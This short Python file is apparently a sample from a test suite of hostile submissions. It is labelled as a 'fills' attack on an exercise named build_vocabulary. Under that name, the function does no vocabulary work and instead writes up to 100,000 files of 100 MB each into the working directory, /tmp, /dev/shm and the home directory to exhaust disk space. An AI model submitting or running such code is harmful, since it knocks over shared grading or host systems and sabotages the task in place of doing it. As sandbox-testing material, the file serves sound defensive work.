# kind: fills
# attack: fills every folder that it may write to
# exercise: 1-embedding-matrix/build_vocabulary
# verdict: failed, timed out
import os


def build_vocabulary(texts, vocab_size):
    full = 0
    for place in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
        try:
            for number in range(100_000):
                with open(os.path.join(place, f"file-{number}"), "wb") as file:
                    file.write(b"x" * 10**8)
        except OSError:
            full += 1
    return full
